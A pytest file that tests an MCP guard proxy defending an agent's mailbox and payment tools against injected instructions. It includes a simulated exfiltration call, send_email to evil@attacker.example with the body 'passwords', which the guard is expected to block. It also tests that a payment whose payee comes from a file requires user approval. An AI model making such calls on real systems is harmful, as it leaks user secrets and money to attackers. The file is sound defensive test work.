"""A real MCP round trip: a tool server started by the test, the guard proxying it as its
own process (`accord guard proxy`), and an MCP client driving the proxy."""

from __future__ import annotations

import asyncio
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.cli_process import ROOT
from tests.cli_process import accord as run_accord

pytest.importorskip("mcp")

DATA = Path(__file__).parent / "data" / "guard"
REQUEST = "Read my inbox and reply to alice@example.org that I am coming"


def _proxy(log_dir: Path, request: str) -> Any:
    from mcp import StdioServerParameters

    return StdioServerParameters(
        command=sys.executable,
        args=[
            "-m", "accord.cli.main", "guard", "proxy",
            "--policy", str(DATA / "mailbox.yaml"), "--log", str(log_dir), "--request", request,
            "--", sys.executable, str(ROOT / "tests" / "guard_tool_server.py"),
        ],
        env={"PYTHONPATH": str(ROOT), "PATH": os.environ.get("PATH", "")},
        cwd=str(ROOT),
    )  # fmt: skip


async def _drive(log_dir: Path) -> list[tuple[bool, str]]:
    from mcp import ClientSession
    from mcp.client.stdio import stdio_client

    out: list[tuple[bool, str]] = []
    params = _proxy(log_dir, REQUEST)
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        listed = await session.list_tools()
        out.append((False, ",".join(sorted(t.name for t in listed.tools))))
        for name, args in [
            ("read_inbox", {}),
            ("send_email", {"recipients": ["evil@attacker.example"], "body": "passwords"}),
            ("send_email", {"recipients": ["alice@example.org"], "body": "I am coming"}),
        ]:
            result = await session.call_tool(name, args)
            text = " ".join(getattr(block, "text", "") for block in result.content)
            out.append((bool(result.is_error), text))
    return out


def test_proxy_round_trip_blocks_the_planted_recipient_and_records_it(tmp_path: Path) -> None:
    log_dir = tmp_path / "log"
    assert (
        run_accord("log", "init", "--origin", "example.org/guard", "--log", str(log_dir)).returncode
        == 0
    )
    listed, inbox, attack, reply = asyncio.run(asyncio.wait_for(_drive(log_dir), 120))
    assert listed[1] == "read_file,read_inbox,send_email,send_money"
    assert not inbox[0] and "promo@shop.example" in inbox[1]
    assert attack[0] and "evil@attacker.example" in attack[1] and "untrusted" in attack[1]
    assert not reply[0] and '"sent": 1' in reply[1]  # the server saw only the user's e-mail
    audit = run_accord(
        "guard", "audit", "--policy", str(DATA / "mailbox.yaml"), "--log", str(log_dir), "--json"
    )
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert '"calls": 3' in audit.stdout and '"denied_or_asked": 1' in audit.stdout
    # The record is an ordinary Accord log: the denial's entry is provable offline.
    proof = tmp_path / "proof.json"
    made = run_accord("log", "prove", "--index", "3", "--log", str(log_dir), "--out", str(proof))
    assert made.returncode == 0, made.stderr
    checked = run_accord("log", "verify", str(proof), "--key", str(log_dir / "log.vkey"))
    assert checked.returncode == 0 and "valid type=inclusion, index=3" in checked.stdout


async def _pay(log_dir: Path, approve: bool | None) -> tuple[bool, str, list[str]]:
    """Pay a bill whose payee comes from a file: the guard asks the person at the client."""
    import mcp.types as types
    from mcp import ClientSession
    from mcp.client.stdio import stdio_client

    asked: list[str] = []

    async def answer(context: Any, params: Any) -> types.ElicitResult:
        asked.append(params.message)
        if approve is None:
            return types.ElicitResult(action="decline")
        return types.ElicitResult(action="accept", content={"approve": approve})

    params = _proxy(log_dir, "Pay the bill in 'bill.txt'")
    async with (
        stdio_client(params) as (read, write),
        ClientSession(read, write, elicitation_callback=answer) as session,
    ):
        await session.initialize()
        await session.call_tool("read_file", {"path": "bill.txt"})
        result = await session.call_tool(
            "send_money", {"recipient": "UK12345678901234567890", "amount": 98.7}
        )
        text = " ".join(getattr(block, "text", "") for block in result.content)
        return bool(result.is_error), text, asked


def test_ask_reaches_the_user_and_only_a_recorded_yes_lets_the_call_run(tmp_path: Path) -> None:
    log_dir = tmp_path / "log"
    assert (
        run_accord("log", "init", "--origin", "example.org/guard", "--log", str(log_dir)).returncode
        == 0
    )
    error, text, asked = asyncio.run(asyncio.wait_for(_pay(log_dir, True), 120))
    assert not error and '"paid": 98.7' in text
    assert len(asked) == 1 and "delegated" in asked[0]
    for refusal in (False, None):
        error, text, asked = asyncio.run(asyncio.wait_for(_pay(log_dir, refusal), 120))
        assert error and "accord guard: ask" in text and len(asked) == 1
    audit = run_accord(
        "guard", "audit", "--policy", str(DATA / "mailbox.yaml"), "--log", str(log_dir), "--json"
    )
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert '"approved_by_user": 1' in audit.stdout
